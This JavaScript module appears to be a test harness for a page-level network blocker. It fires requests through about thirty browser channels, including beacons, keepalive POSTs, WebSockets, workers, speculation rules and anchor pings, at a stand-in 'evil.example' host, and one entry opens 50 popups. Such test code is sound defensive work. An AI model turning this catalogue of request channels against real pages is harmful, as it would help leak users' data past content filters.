// Every way in which a page makes its browser ask for something, each for a host that no rule covers and for one that a
// rule does: `https://WAY.evil.example/` and `https://www.example.com/WAY`.
const hosts = way => [`https://${way}.evil.example/`, `https://www.example.com/${way}`];
const at_most = (ms, wanted) => Promise.race([wanted, new Promise(done => setTimeout(done, ms, 'late'))]);

/** Puts an element with these properties into the page, and waits for its end. */
const element = (tag, properties) => new Promise(done => {
  const it = document.createElement(tag);
  it.onload = () => done('loaded');
  it.onerror = () => done('refused');
  Object.assign(it, properties);
  document.body.append(it);
});
const link = (rel, more = {}) => way => Promise.all(hosts(way).map(href => element('link', {rel, href, ...more})));
/** One that says nothing when it is done. */
const hint = rel => way => hosts(way).forEach(href => element('link', {rel, href}));
const opened = it => new Promise(done => {
  it.onopen = () => done('open');
  it.onerror = () => done('refused');
});
const told = it => new Promise(done => { it.onmessage = event => done(event.data); });

const ways = {
  fetch: way => Promise.allSettled(hosts(way).map(url => fetch(url))),
  keepalive: way => Promise.allSettled(hosts(way).map(url => fetch(url, {keepalive: true, method: 'POST', body: 'x'}))),
  later: way => hosts(way).forEach(url => globalThis.fetchLater?.(url, {activateAfter: 0})),
  xhr: way => Promise.all(hosts(way).map(url => new Promise(done => {
    const it = new XMLHttpRequest();
    it.onloadend = done;
    it.open('GET', url);
    it.send();
  }))),
  beacon: way => hosts(way).map(url => navigator.sendBeacon(url, 'x')),
  img: way => Promise.all(hosts(way).map(src => element('img', {src}))),
  script: way => Promise.all(hosts(way).map(src => element('script', {src}))),
  iframe: way => Promise.all(hosts(way).map(src => element('iframe', {src}))),
  video: way => hosts(way).forEach(src => element('video', {src, preload: 'auto'})),
  style: link('stylesheet'),
  preload: link('preload', {as: 'image'}),
  modulepreload: link('modulepreload'),
  prefetch: link('prefetch'),
  preconnect: hint('preconnect'),
  lookup: hint('dns-prefetch'),
  rules: way => void element('script', {
    type: 'speculationrules',
    textContent: JSON.stringify({prefetch: [{source: 'list', urls: hosts(way)}], prerender: [{source: 'list', urls: hosts(way)}]}),
  }),
  ping: way => hosts(way).forEach(ping => {
    const it = document.createElement('a');
    Object.assign(it, {href: '#ping', ping});
    document.body.append(it);
    it.click();
  }),
  events: way => Promise.all(hosts(way).map(url => opened(new EventSource(url)))),
  socket: way => Promise.all(hosts(way).map(url => opened(new WebSocket(url.replace('https', 'wss'))))),
  transport: way => Promise.allSettled([...hosts(way), 'https://127.0.0.1:4433/', 'https://198.41.0.4:443/']
    .map(url => new WebTransport(url).ready)),
  worker: way => told(new Worker(`/worker.js?kind=${way}`)),
  shared: way => told(new SharedWorker(`/worker.js?kind=${way}`).port),
  service: async way => {
    const {installing, waiting, active} = await navigator.serviceWorker.register(`/worker.js?kind=${way}`);
    const answer = new Promise(done => { navigator.serviceWorker.onmessage = event => done(event.data); });
    (installing ?? waiting ?? active).postMessage('well?');
    return answer;
  },
  multicast: () => Promise.allSettled([
    fetch('https://printer.local/'), new PresentationRequest('https://cast.evil.example/').getAvailability(),
  ]),
  popups: way => { for (let n = 0; n < 50; n++) window.open(hosts(way)[0]); },
};

export const attack = async () => {
  const say = {};
  await Promise.all(Object.entries(ways).map(async ([way, go]) => {
    try {
      const came = await at_most(3000, go(way));
      say[way] = JSON.stringify(came) ?? 'done';
    } catch (error) {
      say[way] = `${error}`;
    }
  }));
  return say;
};
